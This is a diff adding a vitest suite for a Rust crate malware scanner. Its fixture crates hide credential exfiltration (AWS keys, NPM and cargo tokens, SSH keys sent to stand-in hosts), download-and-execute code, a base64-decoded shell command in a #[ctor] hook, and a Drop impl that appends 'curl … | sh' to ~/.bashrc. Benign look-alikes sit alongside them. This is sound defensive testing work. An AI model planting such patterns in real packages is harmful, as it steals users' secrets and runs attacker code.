@@ -1,0 +1,352 @@
+// Each flow rule through the real scanner, with the benign look-alikes it must leave below high.
+import { describe, expect, it } from 'vitest';
+import { findingsOf, manifest, ruleIds, scanFiles, worst } from '../../../../test/fixtures/scanner/crates.js';
+import type { Files } from '../../../../test/fixtures/scanner/crates.js';
+import { atLeast } from '../types.js';
+import type { ScanReport, Severity } from '../types.js';
+
+const lib = (name: string, files: Record<string, string>): Files => ({
+  'Cargo.toml': manifest(name),
+  ...files,
+});
+const high = (r: ScanReport) => r.verdict !== 'clean' && atLeast(r.verdict, 'high');
+
+interface Case {
+  name: string;
+  files: Files;
+  rule: string;
+  severity: Severity | null;
+  /** Text the flow finding's evidence must contain. */
+  evidence?: string[];
+  malicious: boolean;
+}
+
+const CASES: Case[] = [
+  // --- flow.exfiltration ---
+  {
+    name: 'Default impl reads cloud credentials; a helper in another file posts them',
+    files: lib('fx1', {
+      'src/lib.rs': 'mod cfg; mod net;',
+      'src/cfg.rs': [
+        'pub struct Config { pub region: String }',
+        'impl Default for Config {',
+        '    fn default() -> Self {',
+        '        let creds = std::fs::read_to_string("/home/u/.aws/credentials").unwrap_or_default();',
+        '        crate::net::upload(&creds);',
+        '        Config { region: String::new() }',
+        '    }',
+        '}',
+      ].join('\n'),
+      'src/net.rs': [
+        'pub fn upload(data: &str) {',
+        '    let _ = ureq::post("https://collect.fx1.example/c").send_string(data);',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'critical',
+    evidence: ['Config::default → upload', 'impl Default for Config', 'src/cfg.rs:4'],
+    malicious: true,
+  },
+  {
+    name: 'a token stored in a field by new() is sent to a raw IP by another method',
+    files: lib('fx2', {
+      'src/lib.rs': [
+        'pub struct Client { token: String }',
+        'impl Client {',
+        '    pub fn new() -> Self {',
+        '        Client { token: std::env::var("NPM_TOKEN").unwrap_or_default() }',
+        '    }',
+        '    pub fn ping(&self) {',
+        '        let _ = ureq::post("http://203.0.113.9/p").send_string(&self.token);',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'high',
+    evidence: ['NPM_TOKEN', 'Client::new', 'Client::ping'],
+    malicious: true,
+  },
+  {
+    name: 'benign: opt-in telemetry sends the host name to the endpoint the caller configures',
+    files: lib('fx3', {
+      'src/lib.rs': [
+        'pub struct Telemetry { endpoint: String }',
+        'impl Telemetry {',
+        '    /// Sends an anonymous usage report to the endpoint you configured. Off unless enabled.',
+        '    pub fn send_report(&self) {',
+        '        let host = gethostname::gethostname();',
+        '        let _ = ureq::post(&self.endpoint).send_string(&format!("{host:?}"));',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'low',
+    malicious: false,
+  },
+  {
+    name: 'benign: an SDK constructor takes its API key from the environment for its own calls',
+    files: lib('fx4', {
+      'src/lib.rs': [
+        'pub struct Api { key: String, base: String }',
+        'impl Api {',
+        '    pub fn from_env() -> Self {',
+        '        Api { key: std::env::var("ACME_API_KEY").unwrap_or_default(), base: String::new() }',
+        '    }',
+        '    pub fn get(&self, path: &str) -> String {',
+        '        ureq::get(&format!("{}{}", self.base, path)).set("Authorization", &self.key).call().unwrap().into_string().unwrap()',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'low',
+    malicious: false,
+  },
+  {
+    name: 'benign: a key-handling library reads SSH keys and has no network',
+    files: lib('fx5', {
+      'src/lib.rs': [
+        'pub fn load_default_key() -> Vec<u8> {',
+        '    let home = std::env::var("HOME").unwrap_or_default();',
+        '    std::fs::read(format!("{home}/.ssh/id_ed25519")).unwrap_or_default()',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: null,
+    malicious: false,
+  },
+  {
+    name: 'a lazy_static initializer reads an SSH key and a thread started by init sends it',
+    files: lib('fx15', {
+      'src/lib.rs': [
+        'lazy_static::lazy_static! {',
+        '    static ref KEY: String = std::fs::read_to_string("/home/u/.ssh/id_ed25519").unwrap_or_default();',
+        '}',
+        'pub fn init() { std::thread::spawn(flush); }',
+        'fn flush() {',
+        '    let body = KEY.clone();',
+        '    let _ = std::net::TcpStream::connect("logs.fx15.example:443").map(|mut s| { use std::io::Write; s.write_all(body.as_bytes()) });',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'critical',
+    evidence: ['first call of the API (pub fn init) via init → flush'],
+    malicious: true,
+  },
+  {
+    name: 'a Display impl sends the cargo token',
+    files: lib('fx16', {
+      'src/lib.rs': [
+        'pub struct Amount(u64);',
+        'impl std::fmt::Display for Amount {',
+        '    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {',
+        '        let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default();',
+        '        let _ = ureq::post("https://t.fx16.workers.dev/").send_string(&t);',
+        '        write!(f, "{}", self.0)',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.exfiltration',
+    severity: 'critical',
+    evidence: ['impl Display for Amount', 'CARGO_REGISTRY_TOKEN'],
+    malicious: true,
+  },
+  // --- flow.download-exec ---
+  {
+    name: "a logger's init fetches a program, marks it executable and runs it",
+    files: lib('fx6', {
+      'src/lib.rs': [
+        'pub fn init() {',
+        '    let body = ureq::get("https://cdn.fx6.example/u").call().unwrap().into_string().unwrap();',
+        '    let path = std::env::temp_dir().join("u-FAKE-DO-NOT-RUN");',
+        '    std::fs::write(&path, body).unwrap();',
+        '    let _ = std::process::Command::new("chmod").arg("+x").arg(&path).status();',
+        '    let _ = std::process::Command::new(&path).spawn();',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.download-exec',
+    severity: 'critical',
+    evidence: ['first call of the API (pub fn init)', 'ureq::get'],
+    malicious: true,
+  },
+  {
+    name: 'a CI check before a download-and-run on the public API raises it',
+    files: lib('fx7', {
+      'src/lib.rs': [
+        'pub fn render() {',
+        '    if std::env::var("CI").is_ok() { return; }',
+        '    let body = ureq::get("https://cdn.fx7.example/u").call().unwrap().into_string().unwrap();',
+        '    let path = "/tmp/u-FAKE-DO-NOT-RUN";',
+        '    std::fs::write(path, body).unwrap();',
+        '    let _ = std::process::Command::new(path).spawn();',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.download-exec',
+    severity: 'critical',
+    evidence: ['guarded by checks CI'],
+    malicious: true,
+  },
+  {
+    name: 'benign: a self-updater verifies the signature, on an explicit documented call',
+    files: lib('fx8', {
+      'src/lib.rs': [
+        '/// Replaces the running binary with the latest release, after checking its signature',
+        '/// against the embedded public key.',
+        'pub fn self_update(url: &str) -> Result<(), Error> {',
+        '    let bytes = ureq::get(url).call()?.into_string()?;',
+        '    verify_signature(bytes.as_bytes(), PUBLIC_KEY)?;',
+        '    let path = std::env::temp_dir().join("next");',
+        '    std::fs::write(&path, &bytes)?;',
+        '    std::process::Command::new(&path).arg("--version").status()?;',
+        '    Ok(())',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.download-exec',
+    severity: 'low',
+    malicious: false,
+  },
+  {
+    name: 'benign: a -sys build script downloads behind an opt-in, checks a pinned digest, unpacks with tar',
+    files: {
+      'Cargo.toml': manifest('fx9-sys', { package: 'build = "build.rs"\n' }),
+      'src/lib.rs': '',
+      'build.rs': [
+        'use sha2::{Digest, Sha256};',
+        'const SHA: &str = "3f786850e387550fdab836ed7e6dc881de23001b3f786850e387550fdab836ed";',
+        'fn main() {',
+        '    if std::env::var("CARGO_FEATURE_DOWNLOAD").is_err() { return; }',
+        '    let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());',
+        '    let tgz = out.join("src.tgz");',
+        '    let body = ureq::get("https://releases.fx9.example/v1.tgz").call().unwrap().into_string().unwrap();',
+        '    assert_eq!(format!("{:x}", Sha256::digest(body.as_bytes())), SHA);',
+        '    std::fs::write(&tgz, body).unwrap();',
+        '    std::process::Command::new("tar").arg("xzf").arg(&tgz).status().unwrap();',
+        '}',
+      ].join('\n'),
+    },
+    rule: 'flow.download-exec',
+    severity: 'medium',
+    malicious: false,
+  },
+  // --- flow.decoded-exec ---
+  {
+    name: 'a #[ctor] function decodes a command and runs it in a shell',
+    files: lib('fx10', {
+      'src/lib.rs': [
+        '#[ctor::ctor]',
+        'fn boot() {',
+        '    let cmd = base64::decode("ZWNobyBoaQ==").unwrap();',
+        '    let text = String::from_utf8(cmd).unwrap();',
+        '    let _ = std::process::Command::new("sh").arg("-c").arg(&text).spawn();',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.decoded-exec',
+    severity: 'critical',
+    evidence: ['#[ctor]'],
+    malicious: true,
+  },
+  {
+    name: 'benign: a documented pub fn decodes a base64 config and runs nothing',
+    files: lib('fx11', {
+      'src/lib.rs': [
+        '/// Parses a base64-encoded configuration blob.',
+        'pub fn parse_config(s: &str) -> Vec<u8> { base64::decode(s).unwrap_or_default() }',
+        'pub fn open_pager() { let _ = std::process::Command::new("less").spawn(); }',
+      ].join('\n'),
+    }),
+    rule: 'flow.decoded-exec',
+    severity: null,
+    malicious: false,
+  },
+  // --- flow.persistence ---
+  {
+    name: "a Drop impl appends to the user's shell rc file",
+    files: lib('fx12', {
+      'src/lib.rs': [
+        'use std::io::Write;',
+        'pub struct Session;',
+        'impl Drop for Session {',
+        '    fn drop(&mut self) {',
+        '        let home = std::env::var("HOME").unwrap_or_default();',
+        '        if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(format!("{home}/.bashrc")) {',
+        '            let _ = writeln!(f, "curl -s https://x.fx12.example/a | sh");',
+        '        }',
+        '    }',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.persistence',
+    severity: 'critical',
+    evidence: ['impl Drop for Session'],
+    malicious: true,
+  },
+  {
+    name: 'benign: a documented completion installer writes ~/.bashrc when called',
+    files: lib('fx13', {
+      'src/lib.rs': [
+        'use std::io::Write;',
+        '/// Installs shell completions by appending a `source` line to ~/.bashrc.',
+        'pub fn install_completions(home: &std::path::Path) -> std::io::Result<()> {',
+        '    let mut f = std::fs::OpenOptions::new().append(true).open(home.join(".bashrc"))?;',
+        '    writeln!(f, "source ~/.local/share/app/completions.bash")',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.persistence',
+    severity: 'low',
+    malicious: false,
+  },
+  {
+    name: 'benign: a documented daemonizer writes a systemd user unit on request',
+    files: lib('fx14', {
+      'src/lib.rs': [
+        '/// Installs and enables a systemd user unit so the daemon starts at login.',
+        'pub fn daemonize(unit: &str) -> std::io::Result<()> {',
+        '    std::fs::write("/home/u/.config/systemd/user/app.service", unit)?;',
+        '    Ok(())',
+        '}',
+      ].join('\n'),
+    }),
+    rule: 'flow.persistence',
+    severity: 'low',
+    malicious: false,
+  },
+];
+
+describe('flow rules through the scanner', () => {
+  for (const c of CASES) {
+    it(`${c.rule}: ${c.name}`, async () => {
+      const r = await scanFiles(c.files);
+      expect(worst(r, c.rule)).toBe(c.severity);
+      expect(high(r)).toBe(c.malicious);
+      if (!c.malicious) expect(ruleIds(r, 'high')).toEqual([]);
+      for (const e of c.evidence ?? []) expect(findingsOf(r, c.rule)[0]?.evidence).toContain(e);
+    });
+  }
+
+  it('caps the same-file rule to the flow when the call is explicit and documented', async () => {
+    const r = await scanFiles(CASES.find((c) => c.name.includes('completion installer'))!.files);
+    const prox = findingsOf(r, 'code.persistence')[0];
+    expect(prox?.severity).toBe('low');
+    expect(prox?.why).toContain('Capped by flow.persistence');
+  });
+
+  it('gives the sink file and line and the flow in the evidence', async () => {
+    const r = await scanFiles(CASES[0]!.files);
+    const f = findingsOf(r, 'flow.exfiltration')[0]!;
+    expect([f.file, f.line, f.context]).toEqual(['src/net.rs', 2, 'library']);
+    expect(f.evidence).toMatch(
+      /aws\/credentials.*src\/cfg\.rs:4.*→ .*ureq::post \(src\/net\.rs:2\); runs: impl Default/,
+    );
+  });
+});
